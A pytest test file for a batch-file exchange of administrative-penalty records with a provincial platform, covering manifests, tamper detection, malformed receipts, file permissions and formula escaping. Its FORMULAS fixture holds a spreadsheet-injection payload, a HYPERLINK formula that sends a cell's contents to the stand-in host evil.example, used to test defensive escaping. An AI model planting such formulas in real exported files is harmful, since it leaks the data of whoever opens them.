"""File exchange mode: batch files in the national template + manifest out, receipt files back in."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import sqlite3
import stat
from contextlib import closing
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from national.safety import formula_like
from store.queries import open_quarantine
from tests.upstream.helpers import DEPT, deliveries, fast, load, penalty
from upstream.envelope import FILE_ENCODING, read_receipt_file
from upstream.errors import ReceiptError
from upstream.files import export_batches, read_receipts
from upstream.push import push
from upstream.standin.files import BatchFileError, process_outbound


def test_file_round_trip(store: Engine, tmp_path: Path) -> None:
    exchange = tmp_path / "exchange"
    load(store, [penalty(i) for i in range(7)] + [penalty("作废3")])
    settings = fast(mode="file", exchange_dir=exchange, batch_size=5)
    result = push(store, settings, trigger="test")  # mode=file dispatches to export_batches
    assert (result.batches, result.records_sent) == (2, 8)
    assert {r["state"] for r in deliveries(store)} == {"sent"}

    manifests = sorted((exchange / "outbound").glob("*.manifest.json"))
    assert len(manifests) == 2
    doc = json.loads(manifests[0].read_text(encoding="utf-8"))
    data_file = exchange / "outbound" / doc["files"][0]["name"]
    assert doc["records"] == 5 and doc["operations"] == {"I": 5} and doc["dataset"] == "cf"
    assert hashlib.sha256(data_file.read_bytes()).hexdigest() == doc["files"][0]["sha256"]
    with data_file.open(encoding=FILE_ENCODING, newline="") as fh:
        header = next(csv.reader(fh))
    assert header[:5] == ["记录标识", "幂等键", "版本号", "操作类型", "源系统时间戳"]
    assert "行政处罚决定书文号" in header and "数据来源单位统一社会信用代码" in header

    assert export_batches(store, settings, trigger="test").records_sent == 0  # sent rows wait for receipts

    assert process_outbound(exchange, tmp_path / "province.db") == {"batches": 2, "records": 8}
    receipts = read_receipts(store, settings, trigger="test")
    assert (receipts.accepted, receipts.rejected) == (7, 1)
    assert sorted(r["state"] for r in deliveries(store)).count("accepted") == 7
    assert [e["rule_ids"] for e in open_quarantine(store, DEPT)] == ["PROV-103"]
    assert len(list((exchange / "inbound" / "processed").glob("*.receipt.csv"))) == 2

    # A receipt file delivered twice changes nothing.
    for p in (exchange / "inbound" / "processed").glob("*.receipt.csv"):
        (exchange / "inbound" / p.name).write_bytes(p.read_bytes())
    again = read_receipts(store, settings, trigger="test")
    assert (again.accepted, again.rejected) == (0, 0)


def test_a_tampered_batch_file_is_refused_by_its_manifest(sqlite_store: Engine, tmp_path: Path) -> None:
    exchange = tmp_path / "exchange"
    load(sqlite_store, [penalty(1), penalty(2)])
    export_batches(sqlite_store, fast(mode="file", exchange_dir=exchange, header="code"), trigger="test")
    data_file = next((exchange / "outbound").glob("*.csv"))
    with data_file.open(encoding=FILE_ENCODING, newline="") as fh:
        assert next(csv.reader(fh))[5:7] == ["CF_XDR_MC", "CF_XDR_LB"]
    data_file.write_bytes(data_file.read_bytes().replace(b"0.2", b"2.0"))
    with pytest.raises(BatchFileError, match="SHA-256"):
        process_outbound(exchange, tmp_path / "province.db")


def test_an_unreadable_receipt_file_is_set_aside_and_does_not_block_the_others(sqlite_store: Engine, tmp_path: Path) -> None:
    """Issue 12 items 9 and 8: a GBK receipt file, and one over the size limit, are named and moved aside; the
    valid files after them are applied; the GBK one, converted and put back, is applied later."""
    exchange = tmp_path / "exchange"
    load(sqlite_store, [penalty(i) for i in range(6)])
    settings = fast(mode="file", exchange_dir=exchange, batch_size=2, max_response_bytes=64 * 1024)
    export_batches(sqlite_store, settings, trigger="test")
    assert process_outbound(exchange, tmp_path / "province.db")["batches"] == 3
    inbound = exchange / "inbound"
    first, *rest = sorted(inbound.glob("*.receipt.csv"))
    utf8 = first.read_bytes()
    first.write_bytes(utf8.decode(FILE_ENCODING).replace("已接收", "已接收（省平台）").encode("gbk"))
    (inbound / "0000_oversized.receipt.csv").write_bytes(b"x" * (64 * 1024 + 1))

    with pytest.raises(ReceiptError) as exc:
        read_receipts(sqlite_store, settings, trigger="test")
    message = str(exc.value)
    assert first.name in message and "UTF-8" in message and "0000_oversized.receipt.csv" in message and "超过上限" in message
    assert "inbound/rejected" in message and "其余 2 个回执文件已处理" in message
    assert exc.value.result is not None and (exc.value.result.accepted, exc.value.result.bad_answers) == (4, 2)
    assert sorted(r["state"] for r in deliveries(sqlite_store)) == ["accepted"] * 4 + ["sent"] * 2
    rejected = inbound / "rejected"
    assert (rejected / first.name).exists() and "UTF-8" in (rejected / f"{first.name}.reason.txt").read_text(encoding="utf-8")
    assert sorted(p.name for p in (inbound / "processed").iterdir()) == sorted(p.name for p in rest)
    assert not list(inbound.glob("*.receipt.csv"))

    first.write_bytes(utf8)  # the province's corrected file
    again = read_receipts(sqlite_store, settings, trigger="test")
    assert (again.status, again.accepted) == ("success", 2)
    assert {r["state"] for r in deliveries(sqlite_store)} == {"accepted"}


def test_malformed_receipt_rows_name_the_file_and_row(tmp_path: Path) -> None:
    bad = tmp_path / "x.receipt.csv"
    bad.write_text("幂等键,记录标识,处理状态,规则编号,字段,说明\r\nabc,r,9,,,\r\n", encoding=FILE_ENCODING)
    with pytest.raises(ReceiptError, match="x.receipt.csv 第 2 行"):
        read_receipt_file(bad)
    bad.write_text("a,b\r\n", encoding=FILE_ENCODING)
    with pytest.raises(ReceiptError, match="表头"):
        read_receipt_file(bad)
    bad.write_text("幂等键,记录标识,处理状态,规则编号,字段,说明\r\nabc,r,1," + "C" * 300_000 + ",,\r\n", encoding=FILE_ENCODING)
    with pytest.raises(ReceiptError, match="不是有效的 CSV"):
        read_receipt_file(bad)  # a field beyond the csv module's limit


FORMULAS = {
    "CF_WSH": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "BZ": "=1+1",
    "CF_XDR_MC": "@SUM(A1:A9)",
    "CF_NR": "'=already quoted by the clerk",
    "CF_YJ": "+86 0571",
    "CF_SY": "-违法事实",
}


def test_batch_files_carry_no_live_formula_and_read_back_unchanged(sqlite_store: Engine, tmp_path: Path) -> None:
    """Issue 12 item 4: formula-like text goes out with a leading apostrophe; the reader removes exactly that
    apostrophe, so the province (here the stand-in's file side) receives every value as it was."""
    exchange = tmp_path / "exchange"
    rows = [penalty("f1", **FORMULAS), penalty("f2", CF_NR="'plain apostrophe", BZ="''=two")]
    load(sqlite_store, rows)
    export_batches(sqlite_store, fast(mode="file", exchange_dir=exchange), trigger="test")
    (data_file,) = (exchange / "outbound").glob("*.csv")
    with data_file.open(encoding=FILE_ENCODING, newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if formula_like(c)]
    assert "'" + FORMULAS["CF_WSH"] in cells and "''=already quoted by the clerk" in cells and "'plain apostrophe" in cells
    (mf,) = (exchange / "outbound").glob("*.manifest.json")
    assert json.loads(mf.read_text(encoding="utf-8"))["formula_escape"] == "apostrophe"

    assert process_outbound(exchange, tmp_path / "province.db") == {"batches": 1, "records": 2}
    with closing(sqlite3.connect(tmp_path / "province.db")) as db:
        received = [json.loads(d) for (d,) in db.execute("SELECT data FROM records ORDER BY data")]
    by_number = {d["CF_WSH"]: d for d in received}
    assert {k: by_number[FORMULAS["CF_WSH"]][k] for k in FORMULAS} == FORMULAS
    other = by_number[rows[1]["CF_WSH"]]
    assert (other["CF_NR"], other["BZ"]) == ("'plain apostrophe", "''=two")


def _mode(p: Path) -> int:
    return p.stat().st_mode & 0o777


@pytest.mark.parametrize("group", [False, True])
def test_exchange_files_are_private_whatever_the_umask(
    sqlite_store: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, group: bool
) -> None:
    """Issue 12 item 12: batch files hold whole records (natural persons' ID numbers): folders 0700 and files 0600
    under umask 022, the ``.part`` file included; ``exchange_group`` opens them to the group (0770/0640), no more."""
    dir_mode, file_mode = (0o770, 0o640) if group else (0o700, 0o600)
    exchange = tmp_path / "exchange"
    if group:  # as docs/upstream.md says: the shared group's folder, set-group-ID
        exchange.mkdir()
        os.chmod(exchange, 0o2770)
    load(sqlite_store, [penalty(i) for i in range(4)])
    settings = fast(mode="file", exchange_dir=exchange, batch_size=2, exchange_group=group)
    parts: dict[str, int] = {}
    real_replace = os.replace

    def spy(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:  # the temp file's mode before rename
        if str(src).endswith(".part"):
            parts[Path(src).name] = _mode(Path(src))
        real_replace(src, dst)

    old = os.umask(0o022)
    try:
        with monkeypatch.context() as m:
            m.setattr(os, "replace", spy)
            export_batches(sqlite_store, settings, trigger="test")
        assert process_outbound(exchange, tmp_path / "province.db")["batches"] == 2
        (exchange / "inbound" / "0000_bad.receipt.csv").write_bytes(b"a,b\r\n")
        with pytest.raises(ReceiptError):
            read_receipts(sqlite_store, settings, trigger="test")
    finally:
        os.umask(old)
    assert len(parts) == 4 and set(parts.values()) == {file_mode}, parts
    outbound = exchange / "outbound"
    written = [p for p in outbound.iterdir() if p.is_file()]
    assert len(written) == 0 and _mode(exchange) == dir_mode and _mode(outbound) == dir_mode  # the province took them
    taken = list((outbound / "picked-up").iterdir())
    assert len(taken) == 4 and {_mode(p) for p in taken} == {file_mode}
    inbound = exchange / "inbound"
    assert _mode(inbound / "processed") == dir_mode and _mode(inbound / "rejected") == dir_mode
    assert all(bool(p.stat().st_mode & stat.S_ISGID) == group for p in (outbound, inbound / "processed", inbound / "rejected"))
    assert _mode(inbound / "rejected" / "0000_bad.receipt.csv.reason.txt") == file_mode
